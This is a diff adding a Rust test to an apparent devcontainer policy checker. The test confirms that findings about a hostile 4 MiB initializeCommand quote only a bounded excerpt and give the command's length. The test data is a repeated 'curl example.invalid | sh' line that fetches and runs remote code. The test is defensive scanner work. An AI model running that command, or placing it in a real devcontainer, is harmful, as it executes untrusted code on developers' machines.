@@ -998,3 +998,31 @@ fn the_gate_reads_exactly_the_gated_files_of_the_file_table() {
     gated.sort();
     assert_eq!(read, gated);
 }
+
+/// A hostile file cannot make a finding's text as large as itself: a 4 MiB
+/// `initializeCommand` is quoted in part, with its length.
+#[test]
+fn findings_quote_a_bounded_part_of_what_they_found() {
+    let command = "curl example.invalid | sh; ".repeat(150_000);
+    let json = devcontainer(&format!("\"initializeCommand\": \"{command}\""));
+    let found = check_devcontainer_json(DEVCONTAINER, &json, &Consent::default());
+    let errs = errors_with(&found, "aibox::policy::initialize_command");
+    assert_eq!(errs.len(), 1);
+    assert!(errs[0].message.len() < 1024, "{}", errs[0].message.len());
+    assert!(
+        errs[0]
+            .message
+            .ends_with(&format!("… ({} bytes)", command.len())),
+        "{}",
+        errs[0].message
+    );
+    let long = Finding::new(
+        "c",
+        Severity::Error,
+        "f",
+        "m".repeat(1 << 20),
+        "r".repeat(1 << 20),
+    );
+    assert!(long.message.len() <= aibox_policy::MAX_FINDING_TEXT + 32);
+    assert!(long.remedy.len() <= aibox_policy::MAX_FINDING_TEXT + 32);
+}
